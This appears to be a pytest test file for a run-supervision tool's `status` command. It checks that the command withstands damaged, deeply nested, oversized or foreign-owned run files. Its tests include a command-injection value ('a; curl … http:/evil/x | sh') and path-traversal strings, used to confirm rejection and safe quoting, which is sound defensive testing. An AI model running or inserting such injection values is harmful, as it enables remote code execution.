"""The files of a shared run say what its owner wants. `penstock status` neither waits, nor fills the memory, nor ends
in a traceback: it shows the run, or says in one error which files are damaged."""

from __future__ import annotations

import dataclasses
import json
import os
import resource
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from penstock.cli.main import app
from penstock.observe import jsonl
from penstock.own_files import MAX_FOREIGN_BYTES, read_document
from penstock.supervisor.known_runs import config_of
from penstock.supervisor.procfs import Identity, identify, read_stat
from penstock.supervisor.run_journal import RunJournal, read_state
from penstock.supervisor.run_status import next_commands, status
from penstock.supervisor.states import RunState

OTHER = 54321
"""A user that no machine has."""
DEEP = "[" * 100_000
MEMORY_BYTES = 8 * 2**30
own = identify(os.getpid())
assert own
OWN = dataclasses.asdict(own)


@pytest.fixture
def run_dir() -> Iterator[Path]:
    base = Path(tempfile.mkdtemp(prefix="penstock-test-", dir="/tmp"))
    run_dir = base / "run"
    (run_dir / "logs").mkdir(parents=True)
    journal = RunJournal.create(run_dir, run_id="run", runtime_dir=base / "runtime")
    journal.move(RunState.STARTING, actor="test")
    (run_dir / "config.yaml").write_text("trainer: {steps: 9}\n")
    yield run_dir
    shutil.rmtree(base)


def give(run_dir: Path) -> None:
    for path in (run_dir, *run_dir.rglob("*")):
        os.lchown(path, OTHER, OTHER)


def change(run_dir: Path, **facts: Any) -> None:
    (run_dir / "state.json").write_text(json.dumps({**(read_state(run_dir) or {}), **facts}))


def refusal(run_dir: Path, *words: str) -> str:
    """The one error with which `status` answers."""
    said = CliRunner().invoke(app, ["status", str(run_dir), *words])
    assert said.exit_code == 1 and isinstance(said.exception, SystemExit), (said.output, said.exc_info)
    assert said.stderr.count("error: ") == 1 and "Traceback" not in said.output
    return said.stderr


def shows(run_dir: Path) -> None:
    for words in ([], ["--json"]):
        said = CliRunner().invoke(app, ["status", str(run_dir), *words])
        assert said.exit_code == 0, (said.output, said.exc_info)


@pytest.mark.parametrize(
    "facts",
    [
        {"supervisor": None},
        {"supervisor": "me"},
        {"processes": {"a": 3}},
        {"processes": [1]},
        {"processes": {"a": {"pid": "../tmp/evil/p"}}},
        {"processes": {"a": {"state": ["ready"]}}},
        {"supervisor": {**OWN, "pid": "../tmp/evil/p"}},
        {"born": "yesterday"},
        {"born": 1e300},
        {"started": float("nan")},
        {"status": ["running"]},
        {"leftovers": 3},
        {"lived_s": "x"},
    ],
    ids=lambda facts: "-".join(facts),
)
def test_a_damaged_state_is_answered_by_one_error_that_names_it(run_dir: Path, facts: dict[str, Any]) -> None:
    change(run_dir, **facts)
    assert read_state(run_dir) is None
    assert str(run_dir / "state.json") in refusal(run_dir).replace("\n", "")


def test_a_state_with_many_levels_is_damaged(run_dir: Path) -> None:
    (run_dir / "state.json").write_text(DEEP)
    assert "state.json" in refusal(run_dir)
    (run_dir / "state.json").write_text('{"a":' * 100_000)
    assert read_state(run_dir) is None


plain = st.none() | st.booleans() | st.integers() | st.floats() | st.text()
values = st.recursive(plain, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3))


@given(values, st.sampled_from(list(OWN)))
def test_an_identity_has_a_number_as_its_pid_and_the_right_types(value: Any, name: str) -> None:
    assert Identity.of(value) is None
    found = Identity.of({**OWN, name: value})
    assert found is None or all(type(getattr(found, key)) is type(OWN[key]) for key in OWN)
    assert found is None or 0 < found.pid < 1 << 31
    assert Identity.of(OWN) == own


def test_the_process_table_is_read_for_numbers_only(tmp_path: Path) -> None:
    (tmp_path / "stat").write_text("1 (a) R 1 1 1 " + "0 " * 20)
    with pytest.raises(ValueError):
        read_stat(f"../{tmp_path}")  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "settings",
    [
        "{a: !!int ' 1" + ":1" * 400_000 + "'}",
        "{env: null}",
        "{env: 3}",
        "{trainer: null}",
        "{supervisor: [1]}",
        "{trainer: {steps: &a [1, *a]}}",
        DEEP,
        "[1]",
    ],
    ids=lambda text: text[:30],
)
def test_damaged_settings_are_no_settings(run_dir: Path, settings: str) -> None:
    (run_dir / "config.yaml").write_text(settings)
    imports = "from penstock.supervisor.known_runs import config_of; from pathlib import Path"
    words = [sys.executable, "-c", f"{imports}; print(config_of(Path({str(run_dir)!r})))"]
    # The loader of YAML can crash the process.
    done = subprocess.run(words, capture_output=True, text=True, timeout=60, check=False)
    assert (done.returncode, done.stdout) == (0, "{}\n"), done.stderr
    shows(run_dir)


@pytest.mark.parametrize("name", ["events.jsonl", "metrics.jsonl", "timeline.jsonl"])
def test_records_with_many_levels_are_left_out(run_dir: Path, name: str) -> None:
    with (run_dir / name).open("a") as file:
        file.write(f"{DEEP}\n" + '{"a":' * 100_000 + "\n")
    shows(run_dir)


def test_an_event_whose_name_is_no_text_is_a_normal_event(run_dir: Path) -> None:
    with (run_dir / "events.jsonl").open("a") as file:
        file.write('{"time": 1, "event": ["alarm"]}\n')
    shows(run_dir)


@pytest.mark.parametrize("name", ["events.jsonl", "metrics.jsonl", "timeline.jsonl"])
@pytest.mark.parametrize("kind", ["link", "dangling link", "pipe"])
def test_what_is_no_plain_file_is_refused_in_words(run_dir: Path, name: str, kind: str) -> None:
    path = run_dir / name
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero" if kind == "link" else "nowhere")
    assert name in refusal(run_dir)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a run to another user")
@pytest.mark.parametrize(
    ("name", "record"),
    [
        ("events.jsonl", {"time": "x", "event": "stall"}),
        ("events.jsonl", {"event": "checkpoint", "step": [1], "path": 3}),
        ("events.jsonl", {"event": "evaluation", "when": {}, "reward": "x"}),
        ("metrics.jsonl", {"step": "x", "time": None}),
        ("metrics.jsonl", {"reward": 1}),
        ("timeline.jsonl", {"kind": "decision", "decider": {}}),
    ],
    ids=str,
)
def test_the_damaged_records_of_another_user_are_left_out(run_dir: Path, name: str, record: dict[str, Any]) -> None:
    with (run_dir / name).open("a") as file:
        file.write(json.dumps(record) + "\n")
    give(run_dir)
    shows(run_dir)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a run to another user")
def test_a_damaged_document_of_another_user_is_one_error(run_dir: Path) -> None:
    (run_dir / "played.json").write_text('{"refused_requests_total": [1]}')
    give(run_dir)
    assert "the run of another user, are damaged" in refusal(run_dir)


def test_damaged_lines_are_counted(run_dir: Path) -> None:
    with (run_dir / "metrics.jsonl").open("a") as file:
        file.write('{"step": 1\n{"reward": 1}\n')
    assert status(run_dir)["warnings"] == ["metrics.jsonl: 2 damaged lines"]


def test_a_history_without_end_does_not_fill_the_memory(run_dir: Path) -> None:
    path = run_dir / "events.jsonl"
    event = json.dumps({"time": time.time(), "event": "state", "to": "running", "actor": "a", "reason": "the last"})
    with path.open("r+b") as file:
        file.truncate(40 << 30)
        file.seek(0, os.SEEK_END)
        file.write(b"\n" + event.encode() + b"\n")
    words = [sys.executable, "-m", "penstock.cli.main", "status", str(run_dir), "--json"]
    done = subprocess.run(
        words,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY_BYTES, MEMORY_BYTES)),
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["reason"] == "the last"


def test_the_events_of_a_long_run_are_all_shown(run_dir: Path) -> None:
    jsonl.append(
        run_dir / "events.jsonl", {"time": 1.0, "event": "checkpoint", "step": 5, "path": "checkpoints/step_5"}
    )
    line = json.dumps({"time": 1.0, "event": "process_totals", "padding": "x" * 500})
    with (run_dir / "events.jsonl").open("a") as file:
        file.write(f"{line}\n" * 40_000)
    said = CliRunner().invoke(app, ["status", str(run_dir), "--json"])
    assert json.loads(said.stdout)["checkpoint"] == "checkpoints/step_5"


def test_the_commands_know_the_settings_of_a_run(run_dir: Path) -> None:
    assert config_of(run_dir) == {"trainer": {"steps": 9}}


def test_little_is_read_of_the_files_of_another_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "events.jsonl"
    path.write_bytes(b"{}\n" * (MAX_FOREIGN_BYTES // 2))
    assert len(jsonl.tail(path, 2 * MAX_FOREIGN_BYTES)) == MAX_FOREIGN_BYTES // 2
    assert len(read_document(path)) > MAX_FOREIGN_BYTES
    monkeypatch.setattr(os, "geteuid", lambda: OTHER)
    assert 0 < len(jsonl.tail(path, 2 * MAX_FOREIGN_BYTES)) <= MAX_FOREIGN_BYTES // 3
    with pytest.raises(OSError, match="has more than"):
        read_document(path)


HOSTILE = "a; curl -s http:/evil/x | sh #"


@pytest.mark.parametrize(
    "path", [f"checkpoints/step_3 {HOSTILE}", "../x/step_3", "checkpoints/step_3\n", "/tmp/step_3"]
)
def test_a_checkpoint_lies_where_a_run_writes_it(run_dir: Path, path: str) -> None:
    jsonl.append(run_dir / "events.jsonl", {"time": 1.0, "event": "checkpoint", "step": 3, "path": path})
    assert status(run_dir)["checkpoint"] is None


@pytest.mark.parametrize("state", ["completed", "failed", "stopped", "lost", "suspended", "running"])
@pytest.mark.parametrize("pipeline", ["train", "eval", "rollout"])
def test_suggested_commands_take_names_as_names(tmp_path: Path, state: str, pipeline: str) -> None:
    run_dir = tmp_path / HOSTILE
    document = {
        "run_dir": str(run_dir),
        "status": state,
        "pipeline": pipeline,
        "simulated": False,
        "root_cause": {"process": HOSTILE, "returncode": 1},
        "checkpoint": "checkpoints/step_3",
        "processes": [{"pid": 1}],
        "progress": {"needs": HOSTILE},
    }
    commands = next_commands(document)
    assert commands
    for command in commands:
        words = shlex.split(command)
        quoted = [word for word in words if HOSTILE in word]
        assert command == shlex.join(words) and (quoted or state == "suspended"), command
